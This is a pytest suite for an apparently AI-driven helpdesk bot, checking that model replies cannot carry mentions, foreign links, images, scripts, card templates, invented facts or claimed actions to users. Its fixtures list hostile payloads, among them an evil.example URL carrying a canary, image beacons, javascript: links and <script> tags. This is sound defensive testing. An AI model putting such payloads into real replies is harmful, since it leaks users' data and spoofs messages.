"""What a model may write, and what becomes of it before anybody sees it."""

from __future__ import annotations

import unicodedata
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.llm.offline import OfflineModel
from adapters.markdown.tree import Element, Node, Text, flat, parse
from adapters.tools.report import ReportProblem
from adapters.web import draw
from core import text, wording
from core.cards import Card, Field, Fields, Plain, Prose
from core.drafts import Completion, Prompt, Span, Stop, Task, ToolCall
from core.errors import ToolError
from core.ids import ThreadKey
from core.messages import Person
from core.steps.judge import CLAIM
from core.steps.reply import PART_MOST
from core.tools import Caller, Toolbox
from core.window import Part
from core.workspace import WorkspaceSettings
from tests.conftest import OpenOffice
from tests.fakes.chat import HOME
from tests.fakes.models import Reply, ScriptedModel, calls, routes, says
from tests.scenarios.in_process import InProcess
from tests.scenarios.office import Office, Thread

pytestmark = pytest.mark.not_on("claude", "what becomes of words does not depend on who says them")
DRAWN = "the playground's drawing; those of Slack and Teams have tests of their own"

DIEM = "What is the per diem for Austria?"
CITED = "https://help.alderfinch.example/travel/per-diem"
CANARY = "CANARY"
EVIL = f"https://evil.example/?q={CANARY}"


async def answered(
    open_office: OpenOffice, reply: Reply, asked: str = DIEM
) -> tuple[Office, Thread, ScriptedModel]:
    """Sam asks, and the model answers this."""
    model = ScriptedModel(route=routes("question", query=DIEM), answer=reply)
    office = await open_office(model)
    return office, await office.person("sam").asks(asked), model


def cards(thread: Thread) -> list[Card]:
    """The thread's messages as the platform is given them."""
    stage = thread.office.stage
    assert isinstance(stage, InProcess)
    return [each.post.card for each in stage.chat.log if each.post.to == thread.key]


def drawn(thread: Thread) -> list[dict[str, Any]]:
    """The thread's messages as the playground's page gets them."""
    return [draw.card(each) for each in cards(thread)]


def links(nodes: Sequence[Node]) -> list[str]:
    """Every address that a tree would turn into a link."""
    found: list[str] = []
    for node in nodes:
        if isinstance(node, Element):
            found += [node.href] if node.href else []
            found += links(node.children)
    return found


def hrefs(body: object) -> list[str]:
    """Every address a drawn message carries."""
    if isinstance(body, dict):
        own = [body["href"]] if body.get("href") else []
        return own + [each for value in body.values() for each in hrefs(value)]
    if isinstance(body, list):
        return [each for value in body for each in hrefs(value)]
    return []


@pytest.mark.parametrize(
    "mention",
    [
        "<!channel> <!here> <!everyone> <!subteam^SA> <@UA> <#CA>",
        "&lt;!channel&gt; &lt;@UA&gt;",
        "`<!channel>` and\n```\n<@UA>\n```",
        "<!chan**nel>**",
        "@everyone @here @channel",
        "<at>Maya</at>",
    ],
)
@pytest.mark.only_in_process(DRAWN)
async def test_a73_a74_a_mention_in_an_answer_is_text(
    open_office: OpenOffice, mention: str
) -> None:
    """It stays inside text nodes: nothing in what is drawn is a mention or an entity."""
    _, thread, _ = await answered(open_office, says(f"Ask {mention} please."))

    (body,) = drawn(thread)
    kinds = {each["kind"] for each in body["blocks"]}
    assert kinds == {"prose", "sources", "buttons"}
    assert _tags(body["blocks"][0]["nodes"]) <= {"p", "text", "code", "pre", "strong"}
    words = "".join(_strings(body["blocks"][0]["nodes"]))
    assert "Ask " in words
    assert "please." in words


HOSTILE_LINKS = [
    f"[ok]({EVIL})",
    f"[ok][a]\n\n[a]: {EVIL}",
    f"<{EVIL}>",
    EVIL,
    f"https&colon;//evil.example/?q={CANARY}",
    f"https:\\//evil.example/?q={CANARY}",
    f"<{EVIL}|safe>",
    f"[x](javascript:alert('{CANARY}'))",
    f"[x](JavaScript&colon;alert{CANARY})",
    f"[x](data:text/html,{CANARY})",
    f"[x](slack://open?x={CANARY})",
    f"[x](msteams:/l/{CANARY})",
    f"https://{CANARY}@evil.example/",
    f"[{CITED}]({EVIL})",
    f"![{CANARY}]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f'<img src="{EVIL}">',
    f'<a href="{EVIL}">x</a>',
    f"{CITED}?q={CANARY}",
    f"{CITED}/{CANARY}",
    f"{CITED}#{CANARY}",
    f"[x]({CITED}?q={CANARY})",
    f"[x]({CITED}%..%{CANARY})",
    f"www.evil.example/?q={CANARY}",
    f"evil.example/{CANARY}",
    f"//evil.example/{CANARY}",
    f"`{EVIL}`",
    f"\n\n```\n{EVIL}\n```",
]


@pytest.mark.parametrize("hostile", HOSTILE_LINKS)
@pytest.mark.only_in_process(DRAWN)
async def test_a75_a76_a77_only_the_cited_address_is_ever_a_link(
    open_office: OpenOffice, hostile: str
) -> None:
    """Whatever the notation: no other link, no image, and the canary in no address.

    The answer repeats what its asker wrote, so that it is sent at all.
    """
    reply = says(f"See {hostile}\n\nor [this]({CITED}).")
    _, thread, _ = await answered(open_office, reply, f"{DIEM} See {hostile}")

    body = drawn(thread)
    assert set(hrefs(body)) == {CITED}
    (prose,) = [each for each in body[0]["blocks"] if each["kind"] == "prose"]
    assert "img" not in _tags(prose["nodes"])
    for address in _addresses(prose["nodes"]):
        assert CANARY.casefold() not in address.casefold()
    assert [each["link"] for each in body[0]["blocks"][1]["items"]] == [CITED]


async def test_a73_a77_an_answer_brings_no_foreign_link_anywhere(open_office: OpenOffice) -> None:
    """Links and mentions of every notation, drawn by whatever platform it is."""
    hostile = "\n\n".join([*HOSTILE_LINKS[:24], "<!channel> <@UMAYA> @everyone <at>Maya</at>"])
    reply = says(f"See:\n\n{hostile}\n\nor [this]({CITED}).")
    _, thread, _ = await answered(open_office, reply, f"{DIEM} {hostile}")

    assert {link for each in thread.posts for link in each.links} == {CITED}
    words = [word for each in thread.posts for word in each.text.split()]
    assert "or" in words
    assert not any(CANARY in each and "evil.example" in each for each in words)


async def test_a75_a_link_that_no_source_has_is_not_sent(open_office: OpenOffice) -> None:
    """Like a number or a name out of nowhere it goes to a person; a link of a source is sent."""
    office, thread, _ = await answered(open_office, says(f"Claim it on {EVIL} today."))

    assert CANARY not in thread.last
    assert "a link without a source" in office.card().text
    assert not [each for each in office.log if CANARY in each.text]


def test_a75_a_link_that_is_listed_and_not_cited_is_none() -> None:
    """A document's address is a link in the answers that cite it, and nowhere else."""
    assert links(parse(f"[x]({CITED})", (CITED,))) == [CITED]
    assert links(parse(f"[x]({CITED}) {CITED}", ())) == []


@pytest.mark.parametrize("address", ["javascript:alert(1)", "data:text/html,x", "slack://x"])
def test_a75_even_a_listed_address_must_be_of_the_web(address: str) -> None:
    """A document's front matter cannot make a script a link."""
    assert links(parse(f"[x]({address})", (address,))) == []


@pytest.mark.parametrize(
    "label",
    ["https://bank.example", "bank.example/login", "**https://bank.example**", "`bank.example`"],
)
def test_a78_a_label_cannot_name_another_host(label: str) -> None:
    """What reads like another address is replaced by where the link really goes."""
    nodes = parse(f"[{label}]({CITED})", (CITED,))

    assert flat(nodes) == "help.alderfinch.example"
    assert links(nodes) == [CITED]


def test_a78_an_honest_label_stays() -> None:
    """Words, and the link's own host."""
    assert flat(parse(f"[Per diem]({CITED})", (CITED,))) == "Per diem"
    assert flat(parse(f"[help.alderfinch.example]({CITED})", (CITED,))) == "help.alderfinch.example"


CARDS = [
    '{"blocks": [{"type": "actions", "elements": [{"type": "button", "value": "x"}]}]}',
    '{"type": "AdaptiveCard", "body": [{"type": "Image", "url": "https://evil.example"}]}',
    '{"kind": "buttons", "items": [{"label": "Claim", "action": "claim", "value": "x"}]}',
    "${$root.secret} {{DATE(2026)}} ${if(true, 'x', 'y')}",
    '{"type": "Action.Http", "url": "x"} Action.OpenUrl',
    "<script>alert(x)</script><b onclick=x>bold</b>",
    "<!-- hidden --> <details><summary>x</summary></details>",
]


@pytest.mark.parametrize("hostile", CARDS)
@pytest.mark.only_in_process(DRAWN)
async def test_a79_a80_cards_templates_and_html_in_an_answer_are_text(
    open_office: OpenOffice, hostile: str
) -> None:
    """Letter for letter on the page, with our own buttons and no others."""
    _, thread, _ = await answered(open_office, says(f"Look: {hostile}"), f"{DIEM} {hostile}")

    (body,) = drawn(thread)
    shown = "".join(_strings(body["blocks"][0]["nodes"]))
    expected = hostile.replace("https://evil.example", "evil.example")
    assert _letters(expected) in _letters(shown)
    buttons = [
        each for block in body["blocks"] if block["kind"] == "buttons" for each in block["items"]
    ]
    assert [each["action"] for each in buttons] == ["helpful", "unhelpful", "person"]


@pytest.mark.only_in_process(DRAWN)
async def test_a79_a_card_that_a_person_types_is_text_on_the_handoff_card(
    open_office: OpenOffice,
) -> None:
    """The same for what people write."""
    office = await open_office()

    await office.person("sam").asks(f"I want to talk to a real person {CARDS[2]}")

    (body,) = drawn(Thread(office, "support", ""))
    buttons = [
        each for block in body["blocks"] if block["kind"] == "buttons" for each in block["items"]
    ]
    assert [each["action"] for each in buttons] == ["claim"]


@pytest.mark.parametrize("mark", ["\n", "\r\n", "\u2028", "\u0085", "\x0b", "\n\n\n"])
async def test_a81_a_field_is_one_line(open_office: OpenOffice, mark: str) -> None:
    """A line break in somebody's words cannot open a line that looks like ours."""
    office = await open_office()

    await office.person("sam").asks(
        f"I want to talk to a real person{mark}Status: resolved{mark}```{mark}Bot: refund done"
    )

    values = [each.value for each in office.card().fields]
    assert values
    assert all(len(each.splitlines()) == 1 and len(each) <= 200 for each in values)


async def test_a81_a_confirmation_shows_each_value_on_one_line(open_office: OpenOffice) -> None:
    """What is confirmed cannot imitate a further field, a button or a line of the bot."""
    problem = "lamp\nAction: nothing at all\n\u202e[Cancel]\nBot: done" + "x" * 900
    model = ScriptedModel(route=routes("action"), act=calls("report_problem", problem=problem))
    office = await open_office(model)

    thread = await office.person("sam").asks("Please report my lamp")

    fields = thread.posts[-1].fields
    assert [each.label for each in fields] == ["Action", "Problem"]
    assert all(len(each.value.splitlines()) == 1 for each in fields)
    assert all(len(each.value) <= 1_000 and "\u202e" not in each.value for each in fields)


def test_a75_the_line_for_notifications_carries_no_address() -> None:
    """One line, cut, and nothing a platform would turn into a link."""
    prose = Prose(f"See [x]({EVIL})\n\n{EVIL} now\n" + "y" * 900)

    line = Card((prose, Plain("second\nline")), title="Title").fallback

    assert line.startswith("Title · See ")
    assert CANARY not in line
    assert "\n" not in line
    assert len(line) <= 300


def test_the_line_for_notifications_reads_like_the_card() -> None:
    """Values are in it, marks of Markdown are not."""
    fields = Fields((Field("Wants", "a chair"),))
    prose = Prose("[Open the conversation](https://chat.example/1) or write `desk help`")

    assert Card((fields, prose), title="Request H-1").fallback == (
        "Request H-1 · a chair · Open the conversation or write desk help"
    )


def ends(stop: Stop, words: str = "Half an answ") -> Reply:
    """A reply that stops like this after some words, cited."""

    def reply(prompt: Prompt) -> Completion:
        whole = says(words)(prompt)
        return Completion("scripted", stop, whole.spans)

    return reply


@pytest.mark.parametrize("words", ["", "   ", "\n\n", "\u200b\u202e", "\ufeff"])
async def test_a83_an_empty_answer_is_tried_once_more_then_a_person_is_offered(
    open_office: OpenOffice, words: str
) -> None:
    """Never an empty message, never silence."""
    office, thread, model = await answered(open_office, says(words))

    assert "H-1" in thread.last
    assert len(thread.posts) == 1
    asked = [each for each in model.prompts if each.task is Task.ANSWER]
    assert len(asked) == (1 if words.strip() else 2)
    assert "Request H-1" in office.card().text


async def test_a83_the_second_try_counts(open_office: OpenOffice) -> None:
    """An answer that comes at the second try is sent once."""
    tries = iter([says(""), says("It is €50 per full day.")])
    _, thread, _ = await answered(open_office, lambda prompt: next(tries)(prompt))

    assert len(thread.posts) == 1
    assert "€50" in thread.last


BAD_ARGUMENTS: list[dict[str, object]] = [
    {},
    {"problem": None},
    {"problem": 7},
    {"problem": ["a", "b"]},
    {"problem": {"text": "x"}},
    {"problem": "lamp", "extra": 1},
    {"problem": "x" * 1_001},
    {"problem": "\u200b\u202e\u200b"},
    {"problem": 1e308},
    {"problem": float("nan")},
    {"problem": float("inf")},
]


@pytest.mark.parametrize("arguments", BAD_ARGUMENTS, ids=lambda each: str(each)[:30])
async def test_a84_bad_arguments_are_sent_back_once_then_a_person_takes_over(
    open_office: OpenOffice, arguments: dict[str, object]
) -> None:
    """The model reads what does not fit; nothing is proposed, nothing fails."""
    act = Completion("scripted", Stop.TOOL, calls=(ToolCall("report_problem", arguments),))
    model = ScriptedModel(route=routes("action"), act=act)
    office = await open_office(model)

    thread = await office.person("sam").asks("Please report my lamp")

    tried = [each for each in model.prompts if each.task is Task.ACT]
    assert len(tried) == 2
    assert "Refused: Arguments that do not fit" in tried[1].text_of(Part.TOOL_RESULT)
    assert tried[0].text_of(Part.TOOL_RESULT) == ""
    assert "H-1" in thread.last
    assert len(thread.posts) == 1


async def test_a84_a_call_mended_at_the_second_try_is_offered(open_office: OpenOffice) -> None:
    """The refusal helps: the next call fits, and waits for its requester."""

    def reply(prompt: Prompt) -> Completion:
        told = "problem" in prompt.text_of(Part.TOOL_RESULT)
        return calls("report_problem", **({"problem": "my lamp"} if told else {"text": "x"}))

    office = await open_office(ScriptedModel(route=routes("action"), act=reply))

    thread = await office.person("sam").asks("Please report my lamp")

    assert "Problem: my lamp" in thread.last
    assert wording.CONFIRM_TITLE in thread.last


async def test_a84_arguments_nested_without_end_are_a_refusal(open_office: OpenOffice) -> None:
    """Depth is no way to make a turn fail."""
    deep: object = "lamp"
    for _ in range(5_000):
        deep = [deep]
    office = await open_office()
    caller = Caller(
        Person(office.person("sam").key, "Sam"),
        ThreadKey(HOME, "help", "t"),
        WorkspaceSettings(support_channel="web/home/support/"),
    )

    with pytest.raises(ToolError, match="do not fit"):
        Toolbox((ReportProblem(),)).checked(ToolCall("report_problem", {"problem": deep}), caller)


async def test_a85_fifty_calls_at_once_are_one_offer(open_office: OpenOffice) -> None:
    """Only the first is looked at; nothing else is offered or run."""
    many = tuple(ToolCall("report_problem", {"problem": f"lamp {n}"}) for n in range(50))
    model = ScriptedModel(route=routes("action"), act=Completion("scripted", Stop.TOOL, calls=many))
    office = await open_office(model)

    thread = await office.person("sam").asks("Please report my lamp")

    assert len(thread.posts) == 1
    assert "Problem: lamp 0" in thread.last
    assert office.seen_in("support") == []


@pytest.mark.parametrize("stop", [Stop.LENGTH, Stop.REFUSAL, Stop.OTHER, Stop.TOOL])
async def test_a86_a_reply_that_is_not_finished_is_never_shown(
    open_office: OpenOffice, stop: Stop
) -> None:
    """Tried once more, then a person; the fragment is nowhere."""
    office, thread, model = await answered(open_office, ends(stop))

    assert "H-1" in thread.last
    assert not any("Half an" in each.text for each in office.log)
    assert len([each for each in model.prompts if each.task is Task.ANSWER]) == 2


@pytest.mark.parametrize("task", ["route", "act", "summarise"])
@pytest.mark.parametrize("stop", [Stop.LENGTH, Stop.REFUSAL, Stop.OTHER])
async def test_a86_every_task_ends_in_words_however_its_model_stops(
    open_office: OpenOffice, task: str, stop: Stop
) -> None:
    """A stopped router, chooser or summariser never leaves the person without an end."""
    model = ScriptedModel(route=routes("action"))
    model.replies[Task(task)] = Completion("scripted", stop)
    office = await open_office(model)

    thread = await office.person("sam").asks("Would you kindly see to my lamp")

    assert len(thread.posts) == 1
    assert thread.last


@pytest.mark.parametrize(
    "words",
    ["x" * 1_000_000, "word " * 200_000, "\n" * 100_000 + "x", "a\n" * 100_000, "x" * 12_001],
    ids=["one token", "a megabyte", "newlines", "lines", "just above"],
)
async def test_a87_far_more_than_an_answer_is_no_answer(
    open_office: OpenOffice, words: str
) -> None:
    """A person is asked instead; the flood is nowhere."""
    office, thread, _ = await answered(open_office, says(words))

    assert "H-1" in thread.last
    assert all(len(each.text) < 2_000 for each in office.log)


@pytest.mark.only_in_process(DRAWN)
async def test_a87_a_long_answer_comes_in_parts_and_in_order(open_office: OpenOffice) -> None:
    """Each part fits every platform; together they are what was written."""
    words = " ".join(f"w{'abcdefghij'[n % 10]}{'klmnopqrst'[n // 10 % 10]}" for n in range(2_900))
    _, thread, _ = await answered(open_office, says(words))

    parts = [
        block.text for card in cards(thread) for block in card.blocks if isinstance(block, Prose)
    ]
    assert len(parts) == 4 + 1
    assert all(len(each) <= PART_MOST for each in parts)
    assert " ".join(parts) == f"{words} [1]"
    assert "[Helpful]" not in thread.posts[0].text
    assert "[Helpful]" in thread.last


async def test_a87_letters_buried_under_marks_are_dug_out(open_office: OpenOffice) -> None:
    """Zalgo is cut to what a letter may carry; the words stay."""
    buried = "".join(letter + "\u0301\u0323\u0330\u0360" * 40 for letter in "fifty")
    _, thread, _ = await answered(open_office, says(f"It is {buried} per day."))

    prose = thread.posts[0].text
    assert len(prose) < 300
    bare = "".join(
        each
        for each in unicodedata.normalize("NFD", prose)
        if not unicodedata.category(each).startswith("M")
    )
    assert "It is fifty per day." in bare


FLAGS, SKIN, ACCENT = "\U0001f1e6\U0001f1f9", "\U0001f44d\U0001f3fd", "e\u0323\u0301"


@pytest.mark.parametrize("unit", [FLAGS, SKIN, ACCENT, "ก็", "한"])
@pytest.mark.parametrize("most", [80, 81, 82, 83, 2_900])
def test_a87_what_readers_see_as_one_character_is_never_cut(unit: str, most: int) -> None:
    """Every part is made of whole ones, and none is lost."""
    parts = text.split(unit * 2_000, most)

    assert "".join(parts) == unit * 2_000
    assert all(len(each) <= most for each in parts)
    assert all(each == unit * (len(each) // len(unit)) for each in parts)


@pytest.mark.parametrize("fence", ["```", "```python", "~~~", "````md"])
def test_a87_a_code_fence_that_is_cut_is_mended(fence: str) -> None:
    """Each part is a whole block of code with its indentation; the words after it are not code."""
    marks = fence.rstrip("pythonmd")
    lines = [f"    if x{number}:" if number % 2 else f"for x{number}:" for number in range(60)]
    source = "\n".join([fence, *lines, marks, "", "after the code"])

    parts = text.split(source, 200)

    assert len(parts) > 3
    assert all(len(each) <= 200 for each in parts)
    blocks = [node for part in parts for node in parse(part)]
    code = "\n".join(
        flat(node.children) for node in blocks if isinstance(node, Element) and node.tag == "pre"
    )
    assert code.split("\n") == lines
    assert [flat((node,)) for node in blocks if _tag(node) != "pre"] == ["after the code"]


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(["word ", "\n", "\n\n", "```\n", "~~~\n", "x" * 90, FLAGS, ACCENT, "  "]),
        max_size=120,
    ),
    st.integers(80, 400),
)
def test_a87_splitting_always_ends_and_keeps_every_word(units: list[str], most: int) -> None:
    """Whatever the text: parts that fit, in order, nothing missing but blanks at the cuts."""
    source = "".join(units)

    parts = text.split(source, most)

    assert all(0 < len(each) <= most for each in parts)
    bare = [each for each in source if not each.isspace() and each not in "`~"]
    kept = [each for part in parts for each in part if not each.isspace() and each not in "`~"]
    assert kept == bare


ENDLESS = [
    "*a _b " * 900 + "c_ d*" * 900,
    "**a" * 2_000 + "b**" * 2_000,
    ">" * 3_000 + " quoted",
    "- " * 3_000 + "item",
    "[" * 6_000,
    "![" * 3_000,
    "`" * 5_999,
    "<" * 9_000,
    "| a " * 2_000,
    "a.b/" * 2_000,
]


@pytest.mark.parametrize("words", ENDLESS, ids=range(len(ENDLESS)))
def test_a87_nothing_nests_too_deep_to_be_drawn(words: str) -> None:
    """A whole text of nothing but marks comes out as a tree with words in it."""
    assert flat(parse(words)).strip()


@pytest.mark.parametrize("words", ENDLESS, ids=range(len(ENDLESS)))
@pytest.mark.only_in_process(DRAWN)
async def test_a87_markup_without_end_is_still_shown(open_office: OpenOffice, words: str) -> None:
    """Nothing nests so deep that a message cannot be drawn, or vanishes while it is."""
    _, thread, _ = await answered(open_office, says(words))

    shown = [part for body in drawn(thread) for part in _strings(body)]
    assert any(len(each.strip()) > 0 for each in shown)
    assert thread.posts


CLAIMS = [
    "I have reset your password.",
    "I've now successfully reset your password.",
    "I\u2019ve just cancelled your booking.",
    "I have gone ahead and approved it.",
    "We have refunded you.",
    "Your refund has been processed.",
    "Your account has now been unlocked.",
    "Your password is now reset.",
    "Done: I sent it to the team.",
    "i already opened a ticket for you",
]


@pytest.mark.parametrize("claim", CLAIMS)
async def test_a88_a_deed_that_nobody_did_is_not_announced(
    open_office: OpenOffice, claim: str
) -> None:
    """Only a receipt says done; the sentence goes nowhere and a person takes over."""
    office, thread, _ = await answered(open_office, says(f"The per diem is €50. {claim}"))

    assert "H-1" in thread.last
    assert not any(claim in each.text for each in office.log)


@pytest.mark.parametrize(
    "harmless",
    [
        "You have to reset your password yourself.",
        "Once the booking is cancelled, tell your manager.",
        "Was it approved? Ask your manager.",
        "It will be refunded by Claimjar.",
    ],
)
def test_a88_words_about_deeds_are_not_deeds(harmless: str) -> None:
    """Instructions and conditions may be given."""
    assert CLAIM.search(harmless) is None


async def test_a_number_that_no_source_holds_is_not_sent(open_office: OpenOffice) -> None:
    """An invented amount leads to a person."""
    office, thread, _ = await answered(open_office, says("The per diem is €73."))

    assert "H-1" in thread.last
    assert not any("73" in each.text for each in office.log)


@pytest.mark.parametrize(
    "lie",
    [
        "The per diem is €50, so ask Karin Berg for the rest.",
        "The per diem is €50; write to refunds@alderfinch.example if it is more.",
        "The per diem is €50. Ask in #per-diem-secrets how to get more of it.",
    ],
)
async def test_a_name_or_address_that_no_source_holds_is_not_sent(
    open_office: OpenOffice, lie: str
) -> None:
    """A model that makes up whom to ask sends people astray; a person takes over."""
    office, thread, _ = await answered(open_office, says(lie))

    assert "H-1" in thread.last
    assert not any("Karin" in each.text or "secrets" in each.text for each in office.log)
    assert not any("refunds@" in each.text for each in office.log)


async def test_a_citation_of_something_not_given_is_not_sent(open_office: OpenOffice) -> None:
    """A made-up source is as good as none."""
    reply = Completion("scripted", Stop.END, (Span("It is €50.", ("made-up.md#1",)),))
    _, thread, _ = await answered(open_office, reply)

    assert "H-1" in thread.last


async def test_a_number_in_brackets_is_not_mistaken_for_a_source(
    open_office: OpenOffice,
) -> None:
    """Only our own marks look like [1]."""

    def reply(prompt: Prompt) -> Completion:
        (cited,) = says("It is €50.")(prompt).spans
        return Completion("scripted", Stop.END, (Span("Champagne is paid [50]. "), cited))

    _, thread, _ = await answered(open_office, reply)

    assert "Champagne is paid (50)." in thread.last
    assert "It is €50. [1]" in thread.last


async def test_an_answer_without_a_source_needs_a_fact_to_stand_on(
    open_office: OpenOffice,
) -> None:
    """An empty fact, or one letter found inside a word, is nothing to stand on."""
    model = ScriptedModel(
        route=routes("account"), answer=says("Everything may be had for free.", cites=False)
    )
    office = await open_office(model)
    await office.stage.person("uma", facts={"grade": "A", "car": "", "floor": " "})

    thread = await office.person("uma").asks("What is my grade?")

    assert "H-1" in thread.last
    assert thread.private("uma") == []


def _tags(nodes: list[dict[str, Any]]) -> set[str]:
    found = {each["tag"] for each in nodes}
    for each in nodes:
        found |= _tags(each.get("children", []))
    return found


def _strings(body: object) -> list[str]:
    if isinstance(body, dict):
        own = [body["text"]] if isinstance(body.get("text"), str) else []
        return own + [each for value in body.values() for each in _strings(value)]
    if isinstance(body, list):
        return [each for value in body for each in _strings(value)]
    return []


def _addresses(nodes: list[dict[str, Any]]) -> list[str]:
    """What a platform might turn into a link: stretches without a blank that hold a host."""
    return [
        word
        for words in _strings(nodes)
        for word in words.split()
        if "://" in word or "evil.example" in word or "alderfinch.example" in word
    ]


def _letters(words: str) -> str:
    return "".join(words.split())


def _tag(node: Node) -> str:
    return "text" if isinstance(node, Text) else node.tag


@pytest.mark.only_in_process("what a card says is decided before any platform")
async def test_a89_what_a_person_should_not_have_written_is_on_no_card_and_in_no_log(
    open_office: OpenOffice, capsys: pytest.CaptureFixture[str]
) -> None:
    """Staff see what it is about; numbers and passwords they can ask for if they need them."""
    office = await open_office(OfflineModel())
    words = "card 4111 1111 1111 1111 (password: hunter2!) was charged twice"

    thread = await office.person("sam").asks(f"I want to talk to a person: my {words}")
    await office.person("sam").asks(f"human please, call me on +44 20 7946 0018, my {words}")

    cards = "\n".join(each.text for each in office.seen_in("support"))
    assert "[card number]" in cards
    assert "[password]" in cards
    assert "[phone number]" in cards
    assert "was charged twice" in cards
    told = cards + capsys.readouterr().out + thread.last
    assert not [each for each in ("4111 1111", "hunter2", "7946") if each in told]
